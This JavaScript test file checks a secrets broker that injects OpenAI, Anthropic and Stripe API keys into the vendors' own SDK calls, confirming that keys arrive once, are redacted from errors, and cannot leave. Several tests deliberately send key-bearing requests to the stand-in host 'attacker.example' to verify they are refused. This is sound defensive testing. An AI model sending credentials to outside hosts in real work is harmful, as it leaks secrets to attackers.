// The vendors' own libraries, unmodified, over `client.fetch` and over the dispatcher: they never hold a key.

import assert from "node:assert/strict";
import { createServer } from "node:net";
import { after, before, test } from "node:test";
import { inspect } from "node:util";

import Anthropic, { AuthenticationError as AnthropicRefusal, PermissionDeniedError as AnthropicDenied } from "@anthropic-ai/sdk";
import { DestinationNotAllowed, SecretRef, Timeout } from "agentsecrets";
import { AgentSecretsDispatcher } from "agentsecrets/undici";
import OpenAI, { APIUserAbortError, AuthenticationError, PermissionDeniedError } from "openai";
import { Stripe } from "stripe";

import { canary, Home, until, Upstream } from "./harness.mjs";

const beginnings = { OPENAI_KEY: "sk-", ANTHROPIC_KEY: "sk-ant-", STRIPE_KEY: "sk_test_" };
const values = Object.fromEntries(Object.entries(beginnings).map(([name, beginning]) => [name, canary(beginning)]));
const key = (name) => new SecretRef(name).placeholderLike(beginnings[name]);
const question = (name) => [{ role: "user", content: `what is ${key(name)}?` }];
const file = new File(['{"a": 1}\n'.repeat(20_000)], "data.jsonl", { type: "application/jsonl" });
let upstream, home, client, dispatcher, nobody;

before(async () => {
  upstream = await Upstream.start();
  home = new Home(upstream);
  for (const [name, value] of Object.entries(values)) home.set(name, value);
  nobody = `https://localhost:${await closedPort()}`;
  for (const name of ["OPENAI_KEY", "ANTHROPIC_KEY"]) home.owner(["allow", name, nobody]);
  client = home.client();
  dispatcher = new AgentSecretsDispatcher(client);
});

after(async () => {
  await dispatcher?.close();
  await client?.close();
  home?.stop();
  upstream?.stop();
});

/** Does something, and proves that the value arrived so often, once in each request and in its slot, and is nowhere here. */
async function once(name, times, work) {
  await upstream.forget();
  const held = await work();
  const received = (await upstream.received()).filter((one) => one.path.startsWith("/vendor/"));
  assert.equal(received.length, times);
  for (const one of received) {
    const texts = [JSON.stringify(one.headers), one.target, Buffer.from(one.body_base64, "base64").toString()];
    assert.equal(texts.join("\n").split(values[name]).length, 2);
    assert.equal(one.headers.find(([header]) => header.toLowerCase() === "authorization")[1], `Bearer ${values[name]}`);
  }
  for (const one of [held].flat()) {
    const shown = inspect(one, { depth: 12, showHidden: true, getters: true }) + String(one?.stack);
    for (const form of [values[name], Buffer.from(values[name]).toString("hex")]) assert.ok(!shown.includes(form));
  }
  return received.map((one) => Buffer.from(one.body_base64, "base64").toString());
}

/** A port where nobody listens; the web's `fetch` calls none of the first ones. */
async function closedPort() {
  const server = createServer().listen(0, "127.0.0.1");
  await new Promise((listening) => server.on("listening", listening));
  const { port } = server.address();
  await new Promise((closed) => server.close(closed));
  return port;
}

/** How many calls are on record that ended so. */
async function refusals(outcome = "denied") {
  return (await client.logs({ outcome, last: 1000 })).length;
}

const ways = {
  "client.fetch": () => ({ fetch: client.fetch }),
  dispatcher: () => ({ fetchOptions: { dispatcher } }),
};

function openai(way, which = "ok", origin = upstream.origin) {
  return new OpenAI({ apiKey: key("OPENAI_KEY"), baseURL: `${origin}/vendor/${which}/v1`, ...ways[way]() });
}

function anthropic(way, which = "ok", origin = upstream.origin) {
  return new Anthropic({ apiKey: key("ANTHROPIC_KEY"), baseURL: `${origin}/vendor/${which}`, ...ways[way]() });
}

/** Stripe's library takes a host and no path, so that the case is put before the path on the way. */
function stripe(which = "ok") {
  const fetch = (url, init) => client.fetch(`${upstream.origin}/vendor/${which}${new URL(url).pathname}`, init);
  return new Stripe(key("STRIPE_KEY"), { httpClient: Stripe.createFetchHttpClient(fetch), maxNetworkRetries: 2 });
}

for (const way of Object.keys(ways)) {
  test(`openai over ${way}: a completion, plain and streamed`, async () => {
    const asked = { model: "test", messages: question("OPENAI_KEY") };
    const bodies = await once("OPENAI_KEY", 1, async () => {
      const library = openai(way);
      const answer = await library.chat.completions.create(asked);
      assert.equal(answer.choices[0].message.content, "Hello there");
      return [library, answer];
    });
    assert.ok(bodies[0].includes(`what is ${key("OPENAI_KEY")}?`));
    await once("OPENAI_KEY", 1, async () => {
      const stream = await openai(way).chat.completions.create({ ...asked, stream: true });
      const times = [];
      let text = "";
      for await (const chunk of stream) {
        times.push(performance.now());
        text += chunk.choices[0].delta.content ?? "";
      }
      assert.equal(text, "Hello there");
      assert.ok(times.at(-1) - times[0] > 100, String(times));
      return stream;
    });
    const left = await openai(way).chat.completions.create({ ...asked, stream: true });
    for await (const _ of left) break;
    await until(async () => (await upstream.state()).requests.at(-1).outcome === "client_closed", "the close");
  });

  test(`openai over ${way}: an upload, its own retries, an error without the key`, async () => {
    const asked = { model: "test", messages: question("OPENAI_KEY") };
    const [body] = await once("OPENAI_KEY", 1, () => openai(way).files.create({ file, purpose: "batch" }));
    assert.ok(body.includes('{"a": 1}\n'.repeat(20_000)));
    for (const status of [429, 500]) {
      await once("OPENAI_KEY", 3, () => openai(way, `${status}x2-${way}`).chat.completions.create(asked));
    }
    await once("OPENAI_KEY", 1, async () => {
      const error = await openai(way, "401").chat.completions.create(asked).catch((reason) => reason);
      assert.ok(error instanceof AuthenticationError && error.message.includes("[REDACTED:OPENAI_KEY]"), error);
      return [error, error.error, error.headers];
    });
    const controller = new AbortController();
    controller.abort();
    await assert.rejects(openai(way).chat.completions.create(asked, { signal: controller.signal }), APIUserAbortError);
  });

  test(`anthropic over ${way}: a message, plain and streamed, an upload, retries, an error`, async () => {
    const asked = { model: "test", max_tokens: 9, messages: question("ANTHROPIC_KEY") };
    const name = "ANTHROPIC_KEY";
    const [said] = await once(name, 1, () => anthropic(way).messages.create(asked));
    assert.ok(said.includes(`what is ${key(name)}?`));
    await once(name, 1, async () => {
      const stream = anthropic(way).messages.stream(asked);
      assert.equal(await stream.finalText(), "Hello there");
      return stream;
    });
    const [body] = await once(name, 1, () => anthropic(way).beta.files.upload({ file }));
    assert.ok(body.includes('{"a": 1}\n'.repeat(20_000)));
    for (const status of [429, 500]) {
      await once(name, 3, () => anthropic(way, `${status}x2-anthropic-${way}`).messages.create(asked));
    }
    await once(name, 1, async () => {
      const error = await anthropic(way, "401").messages.create(asked).catch((reason) => reason);
      assert.ok(error instanceof AnthropicRefusal && error.message.includes("[REDACTED:ANTHROPIC_KEY]"), error);
      return error;
    });
  });

  test(`a refusal over ${way} is said once and not tried again`, async () => {
    const calls = {
      OPENAI_KEY: (library) => library.chat.completions.create({ model: "test", messages: question("OPENAI_KEY") }),
      ANTHROPIC_KEY: (library) => library.messages.create({ model: "test", max_tokens: 9, messages: question("ANTHROPIC_KEY") }),
    };
    for (const [name, make, Refusal] of [
      ["OPENAI_KEY", openai, PermissionDeniedError],
      ["ANTHROPIC_KEY", anthropic, AnthropicDenied],
    ]) {
      const library = make(way, "ok", "https://attacker.example");
      assert.equal(library.maxRetries, 2, "the library's own");
      const denied = await refusals();
      const error = await calls[name](library).catch((reason) => reason);
      assert.ok(error instanceof Refusal, inspect(error));
      assert.equal(error.headers.get("agentsecrets-error"), "destination_not_allowed");
      assert.match(error.message, new RegExp(`agentsecrets allow ${name} attacker.example`));
      assert.equal((await refusals()) - denied, 1, "one try is on record");
      // The control: what may pass is tried again.
      const unreachable = make(way, "ok", nobody);
      const tries = await refusals("failed");
      assert.notEqual((await calls[name](unreachable).catch((reason) => reason)).status, 403);
      assert.equal((await refusals("failed")) - tries, 3, "a first and two more");
    }
  });
}

test("stripe over client.fetch: a form, an upload, its own retries, an error without the key", async () => {
  const name = "STRIPE_KEY";
  await once(name, 1, async () => {
    const made = await stripe().customers.create({ name: key(name) });
    assert.deepEqual([made.id, made.name], ["cus_1", key(name)]);
    return made;
  });
  const [body] = await once(name, 1, async () => {
    const data = Buffer.from(await file.arrayBuffer());
    return stripe().files.create({ purpose: "dispute_evidence", file: { data, name: "data.jsonl", type: "application/jsonl" } });
  });
  assert.ok(body.includes('{"a": 1}\n'.repeat(20_000)));
  for (const status of [409, 500]) await once(name, 2, () => stripe(`${status}x1-stripe`).customers.list({ limit: 1 }));
  await once(name, 1, async () => {
    const error = await stripe("401").customers.list().catch((reason) => reason);
    assert.ok(error instanceof Stripe.errors.StripeAuthenticationError && error.message.includes("[REDACTED:STRIPE_KEY]"), error);
    return error;
  });
  const elsewhere = new Stripe(key(name), {
    host: "attacker.example", httpClient: Stripe.createFetchHttpClient(client.fetch), maxNetworkRetries: 2,
  });
  const denied = await refusals();
  const refused = await elsewhere.customers.list().catch((reason) => reason);
  assert.ok(refused instanceof Stripe.errors.StripePermissionError, inspect(refused));
  assert.equal(refused.code, "destination_not_allowed");
  assert.match(refused.message, /agentsecrets allow STRIPE_KEY attacker.example/);
  assert.equal((await refusals()) - denied, 1, "one try is on record");
});

test("whoever is no such library is thrown the refusal itself", async () => {
  const asked = (headers) => client.fetch("https://attacker.example/", { headers: { authorization: `Bearer ${key("OPENAI_KEY")}`, ...headers } });
  await assert.rejects(asked(), DestinationNotAllowed);
  const answer = await asked({ "X-Stainless-Retry-Count": "0" });
  assert.deepEqual([answer.status, answer.headers.get("x-should-retry")], [403, "false"]);
  const late = client.fetch(`${upstream.origin}/hang`, {
    timeout: 100, headers: { authorization: `Bearer ${key("OPENAI_KEY")}`, "X-Stainless-Retry-Count": "0" },
  });
  await assert.rejects(late, Timeout);
});

test("the search finds what is there", async () => {
  await assert.rejects(once("STRIPE_KEY", 1, async () => {
    await stripe().customers.list();
    return { planted: values.STRIPE_KEY };
  }), assert.AssertionError);
});
